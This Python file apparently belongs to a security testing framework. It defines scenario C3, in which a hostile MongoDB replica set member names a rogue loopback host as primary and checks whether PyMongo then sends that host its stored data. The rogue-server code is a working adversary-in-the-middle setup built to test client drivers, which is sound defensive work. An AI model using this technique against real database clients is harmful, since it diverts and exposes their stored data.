"""C3: a replica set member names the attacker's host as primary. The client sends it everything."""

from typing import Any

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.mongodb import SET, MongoDB
from backwatch.attack.protocols.server import LOOPBACK, HostileServer
from backwatch.attack.scenarios import Scenario


class _Rogue(MongoDB):
    host = LOOPBACK
    first = ""

    def members(self) -> list[str]:
        return [self.first, *super().members()]


class _Deposed(MongoDB):
    def __init__(self, authority: Authority) -> None:
        super().__init__(authority)
        self.elsewhere = _Rogue(authority)
        self.elsewhere.first = f"{self.host}:{self.port}"
        self.elsewhere.taken = self.elsewhere.kept.append

    def start(self) -> None:
        self.elsewhere.start()
        super().start()

    def stop(self) -> None:
        super().stop()
        self.elsewhere.stop()

    def turn(self) -> None:
        self.primary = False
        super().turn()

    def members(self) -> list[str]:
        return self.elsewhere.members() if self.hostile else super().members()

    def leader(self) -> str:
        return self.elsewhere.leader() if self.hostile else super().leader()


class MongodbRogueMember(Scenario):
    """PyMongo follows a replica set to every host that its members name."""

    code = "C3"
    attack = "names a host that is no member as the primary, which is sent what is stored and asked"
    reference = (
        "https://github.com/mongodb/specifications/blob/master/source/server-discovery-and-monitoring; ATT&CK T1557"
    )
    driver = "pymongo"
    rule = "redirected"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return the first member."""
        return _Deposed(authority)

    def work(self) -> None:
        """Store a basket, and read it."""
        self.meet()

    def meet(self) -> object:
        """Repeat the work once the server is hostile."""
        import pymongo

        client: pymongo.MongoClient[dict[str, Any]] = pymongo.MongoClient(
            "localhost", self.config.port, replicaSet=SET, tls=True, tlsCAFile=self.config.ca_file,
            serverSelectionTimeoutMS=5000, connectTimeoutMS=5000, socketTimeoutMS=5000,
        )  # fmt: skip
        with client:
            baskets = client["shop"]["baskets"]
            baskets.insert_one({"_id": 7, "basket": "two apples"})
            return [str(document["basket"]) for document in baskets.find({"_id": 7})]

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the other host received the stored value."""
        del got
        assert isinstance(service, _Deposed)
        return b"insert" in service.elsewhere.kept
